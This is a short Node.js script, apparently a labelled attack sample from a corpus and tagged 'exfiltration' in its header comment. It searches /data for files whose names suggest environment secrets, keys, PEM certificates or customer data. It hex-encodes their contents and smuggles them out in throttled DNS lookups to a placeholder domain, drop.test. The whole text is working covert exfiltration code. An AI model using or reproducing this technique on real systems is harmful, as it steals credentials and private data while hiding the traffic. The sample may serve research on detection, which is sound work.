// class: exfiltration; possible: low medium; needs: data; style: lookups in hexadecimal, promises, pauses
const dns = require("dns").promises;
const fs = require("fs");
const path = require("path");

(async () => {
  const names = fs.readdirSync("/data", { recursive: true }).map((n) => path.join("/data", n));
  const wanted = names.filter((n) => /env|key|pem|cust/i.test(n) && fs.statSync(n).isFile());
  const until = Date.now() + 50000;
  for (const file of wanted) {
    const hex = fs.readFileSync(file).subarray(0, 1200).toString("hex");
    const parts = hex.match(/.{1,60}/g) || [];
    for (const [i, part] of parts.entries()) {
      if (Date.now() > until) return;
      await dns.lookup(`${part}.${i}.${wanted.indexOf(file)}.drop.test`).catch(() => {});
      await new Promise((r) => setTimeout(r, 120));
    }
  }
})();
